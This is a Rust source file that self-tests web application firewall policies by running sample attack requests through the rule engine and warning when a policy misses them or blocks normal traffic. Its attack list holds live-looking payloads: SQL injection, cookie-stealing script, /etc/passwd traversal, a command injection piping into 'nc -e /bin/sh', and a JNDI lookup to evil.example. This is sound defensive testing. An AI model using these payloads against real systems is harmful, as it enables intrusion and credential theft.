//! Whether the rules of a policy do what they are there for: a few attacks are tried on them, in process.

use crate::build::PolicyReport;
use std::collections::HashSet;
use std::sync::Arc;
use std::time::SystemTime;
use waf::{Connection, Intervention, Mode, RuleSet, Scratch, Transaction};

/// An attack that any set of rules of the common kinds finds.
struct Attack {
    name: &'static str,
    target: &'static str,
    /// A field that is set to this value.
    field: Option<(&'static str, &'static str)>,
}

const fn attack(name: &'static str, target: &'static str) -> Attack {
    Attack {
        name,
        target,
        field: None,
    }
}

const ATTACKS: &[Attack] = &[
    attack(
        "SQL injection",
        "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-",
    ),
    attack(
        "cross-site scripting",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    ),
    attack("path traversal", "/view?file=../../../../../../etc/passwd"),
    attack(
        "command injection",
        "/ping?host=127.0.0.1%3Bcat%20/etc/passwd%7Cnc%20-e%20/bin/sh",
    ),
    Attack {
        name: "JNDI lookup",
        target: "/",
        field: Some(("X-Api-Version", "${jndi:ldap://evil.example/a}")),
    },
    Attack {
        name: "attack tool",
        target: "/",
        field: Some(("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")),
    },
];

/// What an ordinary request has.
const FIELDS: &[(&str, &str)] = &[
    ("Host", "shop.example.com"),
    (
        "User-Agent",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ),
    ("Accept", "text/html,application/xhtml+xml"),
    ("Accept-Language", "en-GB,en;q=0.5"),
];

/// What became of the attacks.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct SelfTest {
    /// How many were tried.
    pub attacks: usize,
    /// How many a rule matched that does not match an ordinary request.
    pub recognised: usize,
    /// How many were refused.
    pub blocked: usize,
    /// Those that no rule matched.
    pub missed: Vec<&'static str>,
    /// Whether an ordinary request is refused.
    pub blocks_ordinary: bool,
}

impl SelfTest {
    /// Tries the attacks. Counters that rules keep for traffic stay as they are.
    pub(crate) fn of(rules: &RuleSet) -> Self {
        let scratch = &mut Scratch::new();
        let rules = &Arc::new(rules.apart());
        let (usual, blocks_ordinary) = run(rules, &attack("", "/search?q=shoes"), scratch);
        let mut outcome = Self {
            attacks: ATTACKS.len(),
            blocks_ordinary,
            ..Self::default()
        };
        for attack in ATTACKS {
            let (matched, is_blocked) = run(rules, attack, scratch);
            if matched.is_subset(&usual) {
                outcome.missed.push(attack.name);
            } else {
                outcome.recognised += 1;
            }
            outcome.blocked += usize::from(is_blocked);
        }
        outcome
    }

    /// What an operator should know about it: what was found, and what to do. `blocks`: the policy is there to block.
    pub(crate) fn concern(&self, policy: &str, blocks: bool) -> Option<(String, &'static str)> {
        if self.recognised == 0 {
            let found = format!(
                "policy `{policy}` recognises none of {} attacks that it was tried with",
                self.attacks
            );
            let remedy = "check that the rules are the ones that you mean, and what `exclude` takes away; rules for something else than the usual attacks may be as you want them";
            return Some((found, remedy));
        }
        if blocks && self.blocked == 0 {
            let found = format!(
                "policy `{policy}` recognises attacks and blocks none of {} that it was tried with",
                self.attacks
            );
            let remedy = "look for `SecRuleEngine DetectionOnly` in its rules, and for a threshold that is never reached";
            return Some((found, remedy));
        }
        if blocks && self.blocks_ordinary {
            let found = format!("policy `{policy}` blocks an ordinary request for a page");
            return Some((found, "`bascule rules explain` says which rule it is"));
        }
        None
    }
}

fn run(rules: &Arc<RuleSet>, attack: &Attack, scratch: &mut Scratch) -> (HashSet<u64>, bool) {
    let connection = Connection {
        client: ([192, 0, 2, 1], 40_000).into(),
        server: ([192, 0, 2, 2], 80).into(),
        time: SystemTime::now(),
        unique_id: "self-test",
    };
    let mut transaction = Transaction::new(Arc::clone(rules), &connection, Mode::Block);
    transaction.request_line(b"GET", attack.target.as_bytes(), b"HTTP/1.1");
    let usual = FIELDS
        .iter()
        .filter(|(name, _)| attack.field.is_none_or(|(other, _)| other != *name));
    for (name, value) in usual.chain(&attack.field) {
        transaction.request_header(name.as_bytes(), value.as_bytes());
    }
    transaction.process_request_headers(scratch);
    transaction.process_request_body(scratch);
    let matched = transaction.matched_rules();
    let is_blocked = !matches!(
        transaction.intervention(),
        Intervention::None | Intervention::Fail(_)
    );
    (matched.collect(), is_blocked)
}

/// Tries every policy that was not tried yet, and says what is wrong.
pub(crate) fn run_all(policies: &[PolicyReport]) {
    for policy in policies {
        tracing::info!(
            policy = policy.name,
            rules = policy.rules,
            detect = policy.detection_rules,
            by_category = policy.coverage.summary(),
            "WAF policy in force"
        );
        if let Some((found, remedy)) = policy.try_out() {
            tracing::warn!(remedy, "{found}");
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use waf::CompileOptions;

    fn rules(documents: &[seclang::Document]) -> Arc<RuleSet> {
        Arc::new(RuleSet::compile(documents, &CompileOptions::default()).unwrap())
    }

    fn own(text: &str) -> Arc<RuleSet> {
        rules(&[seclang::parse_str("own.conf", text).unwrap()])
    }

    #[test]
    fn the_rules_that_ship_pass() {
        let shipped = rules(&[::rules::shipped::load().unwrap()]);
        let outcome = SelfTest::of(&shipped);
        assert!(
            outcome.recognised >= 4 && outcome.blocked >= 4,
            "{outcome:?}"
        );
        assert!(!outcome.blocks_ordinary);
        assert_eq!(outcome.concern("own", true), None);
    }

    #[test]
    fn rules_that_recognise_or_block_nothing_are_a_concern() {
        let blind = SelfTest::of(&own(
            "SecRule ARGS \"@contains xyzzy\" \"id:1,phase:2,deny\"",
        ));
        assert_eq!((blind.recognised, blind.missed.len()), (0, ATTACKS.len()));
        assert!(
            blind
                .concern("own", false)
                .unwrap()
                .0
                .contains("recognises none")
        );
        let tame = "SecRuleEngine DetectionOnly\nSecRule ARGS \"@contains passwd\" \"id:1,phase:2,deny,msg:'x'\"";
        let tame = SelfTest::of(&own(tame));
        assert!(tame.recognised > 0);
        assert!(tame.concern("own", true).unwrap().0.contains("blocks none"));
        assert_eq!(tame.concern("own", false), None);
        let eager = SelfTest::of(&own(
            "SecRule ARGS \"@rx .\" \"id:1,phase:2,deny\"\nSecRule ARGS \"@contains passwd\" \"id:2,phase:1,deny\"",
        ));
        assert!(eager.concern("own", true).unwrap().0.contains("ordinary"));
    }
}
